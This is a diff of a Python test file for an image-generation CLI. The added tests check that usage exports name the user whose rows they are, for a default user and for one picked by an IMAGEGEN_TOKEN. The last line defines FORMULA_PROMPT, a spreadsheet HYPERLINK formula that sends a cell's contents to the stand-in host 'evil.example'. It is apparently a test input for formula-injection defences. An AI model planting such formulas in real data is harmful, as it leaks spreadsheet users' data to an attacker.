@@ -144,10 +144,24 @@ async def test_stats_lists_and_exports_agree_with_the_records(
                 timeout=60,
             )
             assert done.returncode == 0, done.stderr
+            assert f"{what} of user 'alice'" in done.stderr, "the CLI says whose rows these are"
             written = out.read_bytes().decode()
             assert written.startswith(expected.split("\r\n", 1)[0] + "\r\n"), "same header"
             # Signed image URLs are minted fresh for each export; everything else matches.
             assert without_urls(written) == without_urls(expected)
+
+        # With IMAGEGEN_TOKEN the rows are its user's, and the CLI names that user.
+        bobs = await asyncio.to_thread(
+            subprocess.run,
+            [sys.executable, "-m", "imagegen.cli", "usage", "export"],
+            env={**env, "IMAGEGEN_TOKEN": metadata("bob")[0][1].removeprefix("Bearer ")},
+            capture_output=True,
+            text=True,
+            timeout=60,
+        )
+        assert bobs.returncode == 0, bobs.stderr
+        assert bobs.stdout.strip() == usage_csv.split("\r\n", 1)[0], "bob has no rows"
+        assert "usage of user 'bob'" in bobs.stderr
 
 
 FORMULA_PROMPT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a bigger image")'
